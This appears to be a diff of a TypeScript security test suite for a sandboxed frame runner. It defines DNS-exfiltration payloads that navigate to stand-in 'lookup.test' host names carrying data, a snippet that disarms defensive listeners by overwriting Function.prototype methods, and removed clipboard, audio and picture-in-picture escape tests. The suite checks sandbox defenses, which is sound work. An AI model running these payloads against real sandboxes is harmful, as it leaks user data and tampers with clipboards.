@@ -30,57 +30,70 @@ const stop: SourceChange = {
   from: "  define(window, 'stop', () => {});\n",
   to: '',
 };
+/** Disables the listener that uses up the frame's navigations. */
+const limit: SourceChange = {
+  file: 'packages/runner/src/boot/index.ts',
+  from: '  limitNavigations();\n',
+  to: '',
+};
 /** Next host name that the program requests: `n0x.lookup.test`, `n1x.lookup.test`, … */
-const nextName = `location.protocol, 'https://n' + turn++ + 'x.lookup.test/'`;
+const nextName = `'https://n' + turn++ + 'x.lookup.test/'`;
 
 interface NavigationAttack extends FrameAttack {
-  /** Without the defense, the number of host name lookups in three seconds exceeds this number. */
+  /** Without the defenses, the number of host name lookups in three seconds exceeds this number. */
   readonly least: number;
-  /** Maximum number of lookups with the defense. */
-  readonly most: number;
+  /** Defenses that each stop the attack without the others. */
+  readonly enough: readonly SourceChange[];
 }
 
-/**
- * Limits for programs that wait between attempts. The number of lookups depends on the time until
- * the page detects a blocked navigation.
- */
-const waiting = { least: 8, most: 2, pause: 200 } as const;
-/**
- * Limits for bursts. Nothing else runs between the attempts of a burst, so the page detects the
- * first one too late to prevent the others.
- */
-const burst = { least: 150, most: 100, pause: 1000 } as const;
+/** Maximum number of lookups with a defense. */
+export const mostNames = 2;
 
+/** For programs that wait between attempts. */
+const waiting = { least: 8, pause: 200, enough: [watch, stop, limit] };
 /**
- * Each of these defenses is enough to end the run. If `stop()` does nothing, a navigation
- * continues, and the page detects it.
+ * For bursts. Nothing else runs between the attempts of a burst, so the page detects the first one
+ * too late to prevent the others.
  */
-export const navigationDefenses: readonly SourceChange[] = [watch, stop];
+const burst = { least: 30, pause: 1000, enough: [limit] };
+
+/** Defenses after which the run has ended. The limit doesn't end it. */
+export const navigationWatches: readonly SourceChange[] = [watch, stop];
+
+/** Tries to make the limit's listener fail. */
+const disarm = `location.hash = '0'; onbeforeunload = null; Reflect.apply = () => {};
+  Function.prototype.call = Function.prototype.apply = () => {};
+  addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true);`;
 
 export const navigationAttacks: readonly NavigationAttack[] = (
   [
-    ['`location.href` and `stop()`', waiting, `location.href = (${nextName}); stop();`],
-    ['`location.replace()` and `stop()`', waiting, `location.replace((${nextName})); stop();`],
+    ['`location.href` and `stop()`', waiting, `location.href = ${nextName}; stop();`],
+    ['`location.replace()` and `stop()`', waiting, `location.replace(${nextName}); stop();`],
     [
       '`navigation.navigate()` and `stop()`',
       waiting,
-      `try { navigation.navigate((${nextName})).finished.catch(() => {}); } catch {} stop();`,
+      `try { navigation.navigate(${nextName}).finished.catch(() => {}); } catch {} stop();`,
     ],
     [
       'bursts of 100 times `location.href` and `stop()`',
       burst,
-      `for (let i = 0; i < 100; i++) { location.href = (${nextName}); stop(); }`,
+      `for (let i = 0; i < 100; i++) { location.href = ${nextName}; stop(); }`,
+    ],
+    [
+      'bursts of 100 times `open()` in the same window, after attempts to disable the listener',
+      burst,
+      `${disarm} for (let i = 0; i < 100; i++) { open(${nextName}, '_self'); stop(); }`,
     ],
   ] as const
 ).map(([name, { pause, ...numbers }, code]) => ({
   name,
   gain: 'Any number of host names, each with data in it, which the browser looks up',
   code: `let turn = 0; const next = () => { ${code} }; next(); setInterval(next, ${pause});`,
-  without: navigationDefenses,
+  without: [watch, stop, limit],
   ...numbers,
   results: {
     without: `More than ${numbers.least} names in 3 s; the program goes on`,
-    with: `The run ends; at most ${numbers.most} names`,
+    with: `The run ends; at most ${mostNames} names`,
   },
 }));
 
@@ -186,136 +199,3 @@ export const keyboardAttacks: readonly FrameAttack[] = (
     with: 'The run ends, and the field has the focus again with all that was typed',
   },
 }));
-
-const abilitiesFile = 'packages/runner/src/boot/abilities.ts';
-
-/** Removes a line from the boot script. */
-const withoutLine = (text: string): readonly SourceChange[] => [
-  { file: abilitiesFile, from: text, to: '' },
-];
-
-const copies = withoutLine('  refuseClipboardCommands();\n');
-const plays = withoutLine("  replace(media, 'play', reject);\n");
-const streams = withoutLine(
-  "  if (source !== undefined) defineProperty(media, 'srcObject', { ...source, set: refuse });\n",
-);
-const speaks = withoutLine("  replace(classes['SpeechSynthesis']?.prototype, 'speak', refuse);\n");
-const sounds = withoutLine("  replace(window, 'AudioContext', refuse);\n");
-const allows: readonly SourceChange[] = [
-  {
-    file: 'packages/runner/src/host/frame.ts',
-    from: '  element.allow = denyFeatures();\n',
-    to: '',
-  },
-];
-const pictures = withoutLine(
-  "  replace(HTMLVideoElement.prototype, 'requestPictureInPicture', reject);\n",
-);
-
-const select = `const field = document.createElement('textarea'); field.value = 'stolen';
-  document.body.append(field); field.select();`;
-const stream = `const canvas = document.createElement('canvas'); const drawing = canvas.getContext('2d');
-  setInterval(() => drawing.fillRect(0, 0, Math.random() * 9, 9), 20);
-  const video = document.createElement('video'); video.muted = true; document.body.append(video);`;
-
-const opens: readonly SourceChange[] = [
-  {
-    file: 'packages/runner/src/boot/elements.ts',
-    from: "  refuseMethod(Document.prototype, 'open');\n",
-    to: '',
-  },
-];
-
-/** Attacks that succeed if the boot script's listener doesn't prevent a press on a link. */
-const linkAttacks: readonly FrameAttack[] = [
-  ['a link, after `document.open()`', `document.open();`],
-  [
-    'a link, after `open()` of the document’s prototype',
-    `Document.prototype.open.call(document, 'text/html');`,
-  ],
-].map(([name = '', code = '']) => ({
-  name,
-  gain: 'Listeners of the boot script are removed, so the reader’s press follows a link: WebKit connects to its host',
-  code: `try { ${code} } catch {}
-    document.documentElement?.remove();
-    const html = document.appendChild(document.createElement('html'));
-    const link = html.appendChild(document.createElement('body')).appendChild(document.createElement('a'));
-    link.id = 'viewer'; link.href = 'https://n0x.lookup.test/'; link.append('press');
-    addEventListener('click', (event) => {
-      console.log('result ' + !event.defaultPrevented); event.preventDefault();
-    });
-    console.log('waits');`,
-  without: opens,
-  results: { without: 'The link would be followed', with: 'The press is refused' },
-}));
-
-/** Each attack runs on a press and logs whether it succeeded. */
-export const pressAttacks: readonly FrameAttack[] = [
-  ...linkAttacks,
-  ...(
-    [
-      ['`execCommand("copy")`', copies, `${select} return document.execCommand('copy');`],
-      [
-        '`execCommand()` with an object',
-        copies,
-        `${select} return document.execCommand({ toString: () => 'cOpY' });`,
-      ],
-      [
-        '`execCommand("cut")` of another document’s prototype',
-        copies,
-        `${select} return Object.getPrototypeOf(HTMLDocument.prototype).execCommand.call(document, 'cut');`,
-      ],
-      [
-        'sound by `AudioContext`',
-        sounds,
-        `const context = new AudioContext(); await context.resume(); return context.state === 'running';`,
-      ],
-      [
-        'sound by a class that extends `AudioContext`',
-        sounds,
-        `const context = new (class extends AudioContext {})(); await context.resume(); return context.state === 'running';`,
-      ],
-      [
-        'speech',
-        speaks,
-        `speechSynthesis.speak(new SpeechSynthesisUtterance('a')); return speechSynthesis.pending || speechSynthesis.speaking;`,
-      ],
-      [
-        'a video that shows a stream, by `srcObject`',
-        streams,
-        `${stream} video.srcObject = canvas.captureStream(); return video.srcObject !== null;`,
-      ],
-      [
-        'a video that plays a stream, by `play()`',
-        [...streams, ...plays],
-        `${stream} video.srcObject = canvas.captureStream(); await video.play(); return !video.paused;`,
-      ],
-      [
-        'picture-in-picture with a stream',
-        [...pictures, ...streams, ...plays, ...allows],
-        `${stream} video.srcObject = canvas.captureStream(); await video.play();
-       await video.requestPictureInPicture(); return document.pictureInPictureElement === video;`,
-      ],
-      [
-        'picture-in-picture, by permission',
-        allows,
-        `return document.featurePolicy.allowsFeature('picture-in-picture');`,
-      ],
-      [
-        'any feature, by permission',
-        allows,
-        `return document.featurePolicy.allowedFeatures().length > 0;`,
-      ],
-    ] as const
-  ).map(([name, without, code]) => ({
-    name,
-    gain: 'After one press in the view: another text in the clipboard, sound, or a window over all others',
-    code: `addEventListener('pointerup', async () => {
-    let result; try { result = await (async () => { ${code} })(); } catch (error) { result = error.name; }
-    console.log('result ' + result);
-  });
-  console.log('waits');`,
-    without,
-    results: { without: 'It succeeds', with: 'It’s refused' },
-  })),
-];
